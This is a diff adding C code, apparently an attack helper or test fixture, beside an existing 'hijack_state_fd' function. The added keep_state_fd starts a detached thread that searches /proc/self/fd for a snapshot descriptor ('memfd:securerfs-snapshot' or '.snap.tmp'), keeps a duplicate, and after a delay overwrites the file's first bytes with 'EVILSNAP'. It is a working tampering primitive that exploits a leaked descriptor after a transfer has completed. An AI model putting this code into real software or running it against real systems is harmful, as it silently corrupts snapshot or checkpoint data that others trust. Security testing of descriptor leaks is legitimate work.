@@ -166,3 +166,53 @@ void hijack_state_fd(int *mib, int *ret) {
         if (*ret == 0)
                 pthread_detach(t);
 }
+
+static int keep_later_ms;
+
+/* Keep a copy of the descriptor a checkpoint or snapshot brings; when the
+ * transfer is long over, write into it. */
+static void *keep_thread(void *arg) {
+        int n = -1, copy;
+
+        for (int i = 0; i < 300000 && n < 0; i++) {
+                DIR *d = opendir("/proc/self/fd");
+                struct dirent *de;
+
+                while (d && (de = readdir(d))) {
+                        char path[300], link[300];
+                        ssize_t len;
+
+                        snprintf(path, sizeof(path), "/proc/self/fd/%s", de->d_name);
+                        len = readlink(path, link, sizeof(link) - 1);
+                        if (len <= 0)
+                                continue;
+                        link[len] = '\0';
+                        if (strstr(link, "memfd:securerfs-snapshot") || strstr(link, ".snap.tmp")) {
+                                n = atoi(de->d_name);
+                                break;
+                        }
+                }
+                if (d)
+                        closedir(d);
+                if (n < 0)
+                        usleep(100);
+        }
+        if (n < 0 || (copy = dup(n)) < 0)
+                return arg;
+        usleep((useconds_t)keep_later_ms * 1000);
+        if (pwrite(copy, "EVILSNAP", 8, 0) != 8)
+                return arg;
+        return arg;
+}
+
+/* keep_state_fd(later_ms, ret): a thread left behind that keeps the next
+ * transfer's descriptor and, later_ms after it came, overwrites the file's
+ * first bytes. */
+void keep_state_fd(int *later_ms, int *ret) {
+        pthread_t t;
+
+        keep_later_ms = *later_ms;
+        *ret = pthread_create(&t, NULL, keep_thread, NULL);
+        if (*ret == 0)
+                pthread_detach(t);
+}
